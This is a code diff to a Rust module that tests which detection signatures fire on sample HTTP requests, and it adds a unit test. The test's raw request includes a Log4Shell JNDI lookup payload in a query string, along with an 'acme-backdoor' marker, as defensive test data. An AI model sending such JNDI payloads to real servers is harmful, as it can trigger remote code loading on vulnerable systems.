@@ -1,5 +1,6 @@
-//! What `meshsight signatures test RULES REQUESTS` (in `cli/`) runs: which rules fire on a set of
-//! requests.
+//! What `meshsight signatures test RULES REQUESTS` runs: which rules fire on a set of requests.
+//! The signature corpus tests (`cli/tests/corpus.rs` natively, `e2e_signatures` in a real Envoy)
+//! read the corpus with it too.
 //!
 //! Requests come as raw HTTP/1.1 (one message after another, bodies framed by
 //! `Content-Length`) or as NDJSON, one object per line:
@@ -8,12 +9,13 @@
 //! (`"hit"`/`"miss"`) and `category` are carried through). Each request is scanned exactly as
 //! the mirror does it: head, then the body when a rule wants it.
 
-use super::pack::{self, Pack};
-use super::{RequestView, SignatureSet};
-use crate::headers::HeaderBlock;
-use crate::ConfigError;
-use serde::{Deserialize, Serialize};
 use std::collections::BTreeMap;
+
+use meshsight_policy::headers::HeaderBlock;
+use meshsight_policy::mirror::signatures::pack::{self, Pack};
+use meshsight_policy::mirror::signatures::{RequestView, SignatureSet};
+use meshsight_policy::ConfigError;
+use serde::{Deserialize, Serialize};
 
 /// Why a signature test could not run.
 #[derive(Debug, thiserror::Error)]
@@ -311,4 +313,31 @@ fn parse_raw_http(input: &[u8]) -> Result<Vec<TestRequest>, TestError> {
 
 fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
     hay.windows(needle.len()).position(|w| w == needle)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_cli_function_reads_raw_http_and_ndjson() {
+        let pack = br#"{"pack":"p","rules":[{"id":"acme","name":"a","category":"acme","severity":"low","in":["body"],"match":{"any":["acme-backdoor"]}}]}"#;
+        let raw = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: 13\r\n\r\nacme-backdoorGET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: a\r\n\r\n";
+        let v = test_requests(pack, raw, Layering::OverBuiltin).unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(v.len(), 2);
+        assert_eq!(v[0].rules, ["acme"]);
+        assert_eq!(v[1].categories, ["log4shell"]);
+        let v = test_requests(pack, raw, Layering::Alone).unwrap_or_else(|e| panic!("{e}"));
+        assert!(!v[1].hit());
+        let nd = br#"{"method":"POST","path":"/u","body":"acme-backdoor"}"#;
+        let v = test_requests(pack, nd, Layering::Alone).unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(v[0].categories, ["acme"]);
+        let err = test_requests(b"{}", nd, Layering::Alone)
+            .unwrap_err()
+            .to_string();
+        assert!(
+            err.starts_with("pack: pack: missing field") || err.contains("missing field"),
+            "{err}"
+        );
+    }
 }
